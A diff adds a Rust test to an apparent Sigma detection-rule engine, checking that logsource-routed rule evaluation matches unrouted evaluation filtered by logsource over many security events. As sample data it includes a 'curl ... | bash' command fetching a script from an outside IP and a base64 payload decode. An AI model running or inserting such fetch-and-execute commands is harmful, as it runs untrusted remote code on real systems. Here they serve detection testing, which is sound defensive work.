@@ -160,3 +160,57 @@ fn engine_is_shared_by_threads_with_the_same_results() {
         .collect();
     assert!(fields.contains(&(Some("Image"), "/bin/cat")), "{fields:?}");
 }
+
+#[test]
+fn routed_evaluation_equals_unrouted_filtered_by_logsource() {
+    let Some(shared) = shared_dir() else { return };
+    let pack = RulePack::load(shared.join("corpus/sigma/rules")).unwrap();
+    let engine = Engine::new(&pack).unwrap();
+    let mut events: Vec<serde_json::Value> = Vec::new();
+    for dir in [
+        "events/k8s-audit",
+        "events/falco",
+        "events/docker",
+        "events/tetragon",
+    ] {
+        for f in crate::yaml_or_json_files(&shared.join(dir)) {
+            let text = std::fs::read_to_string(&f).unwrap();
+            match serde_json::from_str::<serde_json::Value>(&text) {
+                Ok(v) => events.push(v),
+                Err(_) => events.extend(text.lines().filter_map(|l| serde_json::from_str(l).ok())),
+            }
+        }
+    }
+    // The conformance cases' events too: many shapes, many fields.
+    for case in crate::conformance::load_cases() {
+        events.extend(case.events.into_iter().map(|(e, _)| e));
+    }
+    events.push(serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl -s http://203.0.113.7/x.sh | bash", "ParentImage": "/bin/sh", "User": "root"}));
+    events.push(serde_json::json!({"Image": "/usr/bin/base64", "CommandLine": "base64 -d /tmp/payload", "ParentImage": "/bin/bash"}));
+    assert!(events.len() > 1000, "{} events", events.len());
+    let logsources = [
+        "product=kubernetes,service=audit",
+        "product=linux,category=process_creation",
+        "product=linux",
+        "product=windows,category=process_creation",
+        "category=process_creation",
+    ];
+    let mut scratch = adsigma::Scratch::new();
+    let (mut routed, mut all) = (Vec::new(), Vec::new());
+    let mut compared = 0;
+    for ls in logsources {
+        let ls = adsigma::LogSource::parse(ls).unwrap();
+        for e in &events {
+            routed.clear();
+            all.clear();
+            engine.evaluate_into(e, Some(&ls), &mut scratch, &mut routed);
+            engine.evaluate_into(e, None, &mut scratch, &mut all);
+            all.retain(|&r| {
+                adsigma::engine::fits(&engine.rule(r as usize).unwrap().logsource, &ls)
+            });
+            assert_eq!(routed, all, "{ls} on {e}");
+            compared += routed.len();
+        }
+    }
+    assert!(compared > 0, "some routed matches were compared");
+}
